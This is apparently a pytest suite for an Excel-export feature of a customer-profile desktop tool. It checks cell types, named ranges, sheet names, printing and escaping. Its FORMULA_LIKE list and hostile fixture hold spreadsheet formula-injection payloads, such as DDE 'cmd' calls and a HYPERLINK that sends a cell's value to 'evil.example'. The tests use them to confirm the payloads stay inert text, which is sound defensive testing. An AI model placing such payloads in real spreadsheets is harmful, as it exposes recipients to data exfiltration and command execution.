import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter

from icp_desktop.documents.catalogue import make_document
from icp_desktop.documents.cells import (
    LONGEST_CELL,
    defined_name,
    holdable,
    money_pattern,
    sheet_name,
    write_number,
    write_text,
)
from icp_desktop.documents.content import Request
from icp_desktop.documents.profile_content import make_profile_content
from icp_desktop.i18n import using
from icp_desktop.model.evidence import Evidence, NextTest
from icp_desktop.model.project import Answer, Profile, Project, Retirement
from icp_desktop.model.values import (
    Day,
    MoneyRange,
    NumberRange,
    Pair,
    Pairs,
    Term,
    Terms,
    Text,
    YesNo,
)
from icp_desktop.worksheet.phrases import say_day
from icp_desktop.worksheet.samples import make_sample, sample_ids
from icp_desktop.worksheet.shipped import standard_source

TODAY = date(2026, 11, 21)
FORMULA_LIKE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil")',
    '=IMPORTXML("http://evil","//a")',
    "=1+1;=2+2",
    ";=1+1",
    "0x=1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "\u200b=1+1",
    '"=1+1"',
    "'=1+1",
    "%0A=1+1",
    "-5",
    "+49 170 1234567",
    "@acme",
    "00123",
    "1-2",
    "3/4",
    "1E5",
    "12345678901234567890",
    "TRUE",
    "#N/A",
)


def with_profile(*answers: Answer, **details: object) -> Project:
    profile = Profile(id="p1", name="Regulars", market="both", answers=answers)
    project = Project(
        id="x1",
        client="Halfmoon",
        name="2026",
        worksheet=standard_source(),
        currency="GBP",
        profiles=(profile,),
    )
    return replace(project, **details)


def made(project: Project, **wishes: object) -> bytes:
    request = Request(project=project, profile_id="", today=TODAY)
    return make_document("workbook", ".xlsx", replace(request, **wishes))


def at(year: int, month: int, day: int, hour: int = 0) -> datetime:
    """Return a moment as a cell gives it back: cells know no time zone."""
    return datetime(year, month, day, hour, tzinfo=UTC).replace(tzinfo=None)


def opened(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def named(book: Workbook, name: str) -> Cell:
    ((sheet, place),) = book.defined_names[name].destinations
    return book[sheet][place]


def all_cells(book: Workbook) -> list[Cell]:
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def texts(book: Workbook) -> set[str]:
    return {str(cell.value) for cell in all_cells(book) if cell.value is not None}


def hostile_project() -> Project:
    """A project in which every text a person can type is one of the formula strings."""
    evil = iter(FORMULA_LIKE * 20)

    def proof(number: int) -> tuple[Evidence, ...]:
        return (
            Evidence(
                id=f"e{number}",
                source="outside",
                note=next(evil),
                reference=next(evil),
                page=next(evil),
            ),
            Evidence(id=f"f{number}", source="team", against=True, note=next(evil)),
        )

    terms = tuple(
        Term(id=f"t{n}", text=each, evidence=proof(n), next_test=NextTest(what=next(evil)))
        for n, each in enumerate(FORMULA_LIKE)
    )
    pairs = tuple(
        Pair(id=f"q{n}", first=each, second=next(evil)) for n, each in enumerate(FORMULA_LIKE)
    )
    return with_profile(
        Answer(
            field="people.occupation",
            value=Terms(items=terms),
            next_test=NextTest(what="=1+1", who="=1+1", keep_if="@x"),
        ),
        Answer(field="needs.pains", value=Pairs(items=pairs), weight="must"),
        Answer(field="needs.why_now", value=Text(text="=1+1"), evidence=proof(99)),
        Answer(
            field="buying.order_value", value=MoneyRange(low=Decimal(1), high=None, currency="=1")
        ),
        client='=HYPERLINK("http://evil.example","click")',
        name="=1+1",
        about=(Answer(field="about.difference", value=Text(text="@SUM(1,1)")),),
    )


@pytest.fixture(scope="module")
def hostile() -> tuple[bytes, Workbook]:
    project = hostile_project()
    profile = replace(
        project.profiles[0],
        name="=1+1",
        summary="=cmd|' /C calc'!A0",
        retired=Retirement(reason="=2+2", day=TODAY),
    )
    data = made(replace(project, profiles=(profile,)), version="=3+3", prepared_by="=HYPERLINK(1)")
    return data, opened(data)


def test_no_formula_string_becomes_a_formula(hostile: tuple[bytes, Workbook]) -> None:
    data, book = hostile
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets/" in name]
    assert len(sheets) == 8
    assert not [xml for xml in sheets if b"<f>" in xml or b"<f " in xml or b't="e"' in xml]
    assert {cell.data_type for cell in all_cells(book)} <= {"s", "n", "inlineStr"}


def test_formula_strings_are_the_same_text_after_reading_back(
    hostile: tuple[bytes, Workbook],
) -> None:
    _data, book = hostile
    entries = [cell.value for (cell,) in book["Lists"].iter_rows(min_col=2, max_col=2, min_row=3)]
    assert entries == [each.strip() for each in FORMULA_LIKE] * 2


def test_texts_that_a_program_would_read_as_input_are_marked_as_text(
    hostile: tuple[bytes, Workbook],
) -> None:
    _data, book = hostile
    marked = {cell.value for cell in all_cells(book) if cell.quotePrefix}
    expected = {each.strip() for each in FORMULA_LIKE}
    assert expected - {"0x=1"} <= marked | {"0x=1"}
    assert "Regulars" not in marked
    assert "Still open" not in marked


def test_figures_sums_and_dates_are_real(hostile: tuple[bytes, Workbook]) -> None:
    project = with_profile(
        Answer(field="people.age_range", value=NumberRange(low=Decimal(30), high=Decimal("50.5"))),
        Answer(
            field="buying.order_value",
            value=MoneyRange(low=Decimal(89), high=Decimal("129.5"), currency="GBP", unit="month"),
        ),
        Answer(field="needs.deadline", value=Day(day=date(2027, 1, 5))),
        Answer(
            field="people.location",
            value=Text(text="City"),
            evidence=(
                Evidence(
                    id="e", source="customers", count=31, total=42, day=date(2026, 5, 3), page="14"
                ),
            ),
        ),
    )
    book = opened(made(project))
    assert named(book, "people_age_range_from").value == 30
    assert named(book, "people_age_range_to").value == 50.5
    assert named(book, "people_age_range_to").number_format == "#,##0.0"
    assert named(book, "buying_order_value_from").number_format == "[$£]#,##0"
    assert named(book, "buying_order_value_to").value == 129.5
    assert named(book, "buying_order_value_to").number_format == "[$£]#,##0.00"
    assert named(book, "needs_deadline").value == at(2027, 1, 5)
    assert named(book, "needs_deadline").is_date
    row = [cell.value for cell in book["Evidence"][3]]
    assert row[5:7] == [31, 42]
    assert row[11] == at(2026, 5, 3)


def test_every_answer_has_a_named_cell_that_holds_it() -> None:
    request = Request(project=make_sample("fitness-studio"), profile_id="", today=TODAY)
    request = replace(request, profile_id=request.project.profiles[0].id)
    book = opened(make_document("workbook", ".xlsx", request))
    content = make_profile_content(request)
    rows = [row for block in content.blocks for row in block.rows]
    assert len(rows) > 20
    for row in rows:
        assert named(book, row.field_id.replace(".", "_")).value == row.words


@pytest.mark.parametrize("sample", sample_ids())
def test_every_answer_of_a_sample_is_in_its_cells(sample: str) -> None:
    project = make_sample(sample)
    book = opened(made(project))
    with using(project.language):
        found = {
            say_day(cell.value.date()) if isinstance(cell.value, datetime) else str(cell.value)
            for cell in all_cells(book)
        }
        for profile in project.profiles:
            content = make_profile_content(
                Request(project=project, profile_id=profile.id, today=TODAY)
            )
            lines = [line for block in content.sections for row in block.rows for line in row.lines]
            assert lines
            assert {text for line in lines for text in (line.text, line.second) if text} <= found
            for each in content.not_yet_proven:
                assert {each.test, each.keep_if, each.who} - {""} <= set(found)


def test_the_same_request_gives_the_same_bytes_and_names_no_user(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("LOGNAME", "kilroy")
    monkeypatch.setenv("USER", "kilroy")
    project = make_sample("fitness-studio")
    first = made(project, prepared_by="A. Adviser")
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert made(project, prepared_by="A. Adviser") == first
    properties = opened(first).properties
    assert (properties.creator, properties.lastModifiedBy) == ("A. Adviser", "A. Adviser")
    assert properties.created == properties.modified == at(2026, 11, 21, 12)
    assert opened(made(project)).properties.creator == "ICP Desktop"
    with zipfile.ZipFile(io.BytesIO(first)) as parts:
        everything = b"".join(parts.read(name) for name in parts.namelist())
        assert {entry.date_time for entry in parts.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert b"kilroy" not in everything


@pytest.mark.parametrize(("paper", "code"), [("A4", "9"), ("Letter", "1")])
def test_every_sheet_prints_on_the_paper_asked_for(paper: str, code: str) -> None:
    book = opened(made(make_sample("fitness-studio"), paper=paper))
    for sheet in book:
        assert str(sheet.page_setup.paperSize) == code
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_area
        assert "Draft of 21 November 2026" in sheet.oddFooter.left.text
    for sheet in book.worksheets[1:-1]:
        assert sheet.freeze_panes == "C3"
        assert sheet.print_title_rows == "$2:$2"
        for number in range(1, sheet.max_column + 1):
            assert sheet.column_dimensions[get_column_letter(number)].width >= 6
            assert sheet.cell(row=2, column=number).font.bold


def test_long_texts_get_rows_high_enough_to_read_them() -> None:
    long = "Sixteen letters. " * 40
    book = opened(made(with_profile(Answer(field="needs.why_now", value=Text(text=long)))))
    cell = named(book, "needs_why_now")
    assert cell.alignment.wrap_text
    assert cell.parent.row_dimensions[cell.row].height > 15 * len(long) / 48


def test_profiles_of_one_name_and_odd_names_get_sheets_and_names_of_their_own() -> None:
    age = Answer(field="people.age_range", value=NumberRange(low=Decimal(1), high=None))
    names = ("History", "a/b:c?*[d]\\'", "a b c d", "日本の会社" * 60, "日本の会社" * 60, "x" * 300)
    profiles = tuple(
        Profile(id=f"p{n}", name=name, market="b2c", answers=(age,)) for n, name in enumerate(names)
    )
    book = opened(made(with_profile(profiles=profiles)))
    assert len(book.sheetnames) == len(names) + 10
    assert all(0 < len(name) <= 31 for name in book.sheetnames)
    ages = [name for name in book.defined_names if name.endswith("people_age_range_from")]
    assert len(ages) == len(names)
    assert [named(book, name).value for name in ages] == [1] * len(names)


def test_one_profile_asked_for_is_the_only_one_in_the_workbook() -> None:
    profiles = tuple(
        Profile(
            id=f"p{n}",
            name=name,
            market="b2c",
            kind=kind,
            answers=(Answer(field="people.location", value=Text(text=f"Town {n}"), weight="must"),),
        )
        for n, (name, kind) in enumerate((("One", "ideal"), ("Two", "ideal"), ("No", "negative")))
    )
    project = with_profile(profiles=profiles)
    found = texts(opened(made(project, profile_id="p0")))
    assert {"Town 0", "Town 2", "Who it is not"} <= found
    assert "Town 1" not in found
    everything = texts(opened(made(project)))
    assert {"Town 0", "Town 1", "Town 2"} <= everything


def test_an_empty_project_makes_a_workbook_that_says_what_to_do_first() -> None:
    found = texts(opened(made(with_profile())))
    assert "Still open" in found
    assert any(text.startswith("Start with “") for text in found)


def test_a_field_of_ones_own_gets_a_row_and_a_name() -> None:
    own = (
        '[[sections.fields]]\nid = "needs.own_thing"\nkind = "text"\ncore = ["both"]\n'
        'label = "Own thing"\nwhy = "w"\nquestion = "q?"\ngood = "g"\nweak = "b"\n'
    )
    project = with_profile(
        Answer(field="needs.own_thing", value=Text(text="Seen here")),
        worksheet=f"{standard_source()}\n{own}",
    )
    book = opened(made(project))
    assert named(book, "needs_own_thing").value == "Seen here"
    assert "Own thing" in texts(book)


def test_signs_a_cell_cannot_hold_are_shown_and_not_dropped() -> None:
    assert holdable("a\x07b\x00c\ud800d\ufffee") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert holdable("one\r\ntwo\rthree") == "one\ntwo\nthree"
    assert holdable("مرحبا 👩‍👩‍👧 \u202eabc") == "مرحبا 👩‍👩‍👧 \u202eabc"
    book = opened(
        made(with_profile(Answer(field="needs.why_now", value=Text(text="a\x07=\ud800"))))
    )
    assert named(book, "needs_why_now").value == "a\ufffd=\ufffd"


def test_a_text_that_looks_like_an_escape_of_excel_stays_as_typed() -> None:
    assert holdable("_x0041_") == "_x005F_x0041_"
    assert holdable("_x41_ and a_b") == "_x41_ and a_b"


@pytest.mark.parametrize("letter", ["a", "👍", "é"])
def test_a_text_too_long_for_a_cell_says_so(letter: str) -> None:
    text = letter * 40_000
    held = holdable(text)
    assert len(held.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert held.startswith(letter * 16_000)
    assert held.endswith("The whole text has 40000 characters and stands in the project file.]")
    assert holdable(letter * 10_000) == letter * 10_000


def test_figures_that_a_cell_would_round_become_text() -> None:
    cell = Workbook().active["A1"]
    write_number(cell, Decimal(12345678901234567), "0")
    assert (cell.value, cell.data_type) == ("12,345,678,901,234,567", "s")
    write_number(cell, Decimal("-0.5"), "0.0")
    assert (cell.value, cell.data_type) == (-0.5, "n")


def test_money_stands_where_its_language_puts_the_sign() -> None:
    with using("de"):
        assert money_pattern(Decimal(5), "EUR") == "#,##0 [$€]"
    with using("en"):
        assert money_pattern(Decimal("4.5"), "GBP") == "[$£]#,##0.00"
        assert money_pattern(Decimal(4), "][\x00") == "#,##0"


def test_names_of_cells_are_never_addresses() -> None:
    for wish in ("abc12", "R1C1", "", "1a", "日本", "true", "people.age_range", "c"):
        name = defined_name(wish, set())
        assert re.fullmatch(r"[a-z][a-z0-9]*(_[a-z0-9]+)*", name)
        assert "_" in name or name == "icp"
    taken: set[str] = set()
    assert [defined_name("a.b", taken) for _ in range(3)] == ["a_b", "a_b_2", "a_b_3"]


def test_sheet_names_are_cut_and_numbered() -> None:
    taken: set[str] = set()
    first, second = sheet_name("x" * 40, taken), sheet_name("X" * 40, taken)
    assert (len(first), len(second), second[-2:]) == (31, 31, " 2")
    assert sheet_name("''[]", taken) == "Sheet"


def test_yes_is_a_word_and_no_boolean() -> None:
    project = with_profile(Answer(field="buying.repeat", value=YesNo(yes=True)))
    assert named(opened(made(project)), "buying_repeat").value == "Yes"


def test_text_is_marked_only_where_it_could_be_taken_for_input() -> None:
    cell = Workbook().active["A1"]
    marks = {"plain": False, "=x": True, " =x": True, "12": True, "€5": False, "TRUE": True}
    for text, marked in marks.items():
        cell.quotePrefix = False
        write_text(cell, text)
        assert (bool(cell.quotePrefix), cell.data_type) == (marked, "s"), text


def test_profiles_stand_side_by_side_on_a_sheet_of_their_own() -> None:
    first = Answer(field="people.age_range", value=NumberRange(low=Decimal(30), high=Decimal(50)))
    near, far = (Answer(field="people.location", value=Text(text=t)) for t in ("Near", "Far"))
    profiles = (
        Profile(id="a", name="Nurses", market="b2c", answers=(first, near)),
        Profile(id="b", name="Teachers", market="b2c", answers=(first, far)),
        Profile(
            id="old",
            name="Students",
            market="b2c",
            answers=(near,),
            retired=Retirement(reason="They moved", day=TODAY),
        ),
    )
    book = opened(made(with_profile(profiles=profiles)))
    rows = {row[1]: row for row in book["Side by side"].iter_rows(min_row=3, values_only=True)}
    heads = next(book["Side by side"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert heads == ("Section", "Field", "Nurses", "Mark", "Teachers", "Mark", "Same for all")
    assert rows["Age range"][2:] == ("30–50", "A", "30–50", "A", "Same")
    assert rows["Location"][2:] == ("Near", "A", "Far", "A", None)
    assert rows["Gender"][2:] == ("Still open", None, "Still open", None, "Same")


def test_one_profile_is_compared_with_none() -> None:
    assert "Side by side" not in opened(made(with_profile())).sheetnames


def test_each_source_has_a_row_with_what_rests_on_it() -> None:
    piece = Evidence(
        id="e1", source="outside", reference="Yearbook", link="yearbook.pdf", page="14", day=TODAY
    )
    against = Evidence(id="e2", source="outside", reference="yearbook", against=True)
    project = with_profile(
        Answer(field="people.location", value=Text(text="Near"), evidence=(piece,)),
        Answer(field="needs.why_now", value=Text(text="Now"), evidence=(against,)),
    )

    rows = list(opened(made(project))["Sources"].iter_rows(min_row=3, values_only=True))

    assert len(rows) == 1
    name, letter, kind, link, day, _note, answers, rests = rows[0]
    assert (name, letter, kind, link, answers) == (
        "Yearbook",
        "S",
        "Outside source",
        "yearbook.pdf",
        2,
    )
    assert day == datetime.combine(TODAY, datetime.min.time())
    assert "Location, p. 14" in rests
    assert "Against:" in rests


def test_where_nothing_is_named_there_is_no_sheet_of_sources() -> None:
    assert "Sources" not in opened(made(with_profile())).sheetnames
